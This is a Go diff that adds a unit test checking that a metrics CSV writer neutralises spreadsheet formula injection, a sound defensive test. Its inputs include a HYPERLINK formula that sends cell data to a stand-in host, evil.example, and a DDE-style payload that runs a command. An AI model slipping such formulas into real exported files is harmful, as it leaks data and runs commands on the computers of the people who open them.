@@ -2,6 +2,7 @@ package metrics
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"slices"
 	"strings"
@@ -233,5 +234,29 @@ func TestStopwatch(t *testing.T) {
 	now = now.Add(3 * time.Millisecond)
 	if d := sw.Total(); d != 815*time.Millisecond || Ms(d) != 815 {
 		t.Errorf("total %v", d)
+	}
+}
+
+// TestWriteCSVFormulas: text cells that a spreadsheet would run as a
+// formula (CSV injection) start with an apostrophe; numbers stay numbers.
+func TestWriteCSVFormulas(t *testing.T) {
+	for _, q := range []string{`=HYPERLINK("https://evil.example?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"} {
+		neg := -0.25
+		r := Record{QueryIndex: 1, Query: q, LLMModel: "=cmd", RetrievalMode: "bm25", RerankerScoreMin: &neg}
+		var b bytes.Buffer
+		if err := WriteCSV(&b, []Record{r}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		cells := map[string]string{}
+		for i, name := range rows[0] {
+			cells[name] = rows[1][i]
+		}
+		if cells["query"] != "'"+q || cells["llm_model"] != "'=cmd" || cells["reranker_score_min"] != "-0.25" {
+			t.Errorf("query %q: cells query=%q llm_model=%q reranker_score_min=%q", q, cells["query"], cells["llm_model"], cells["reranker_score_min"])
+		}
 	}
 }
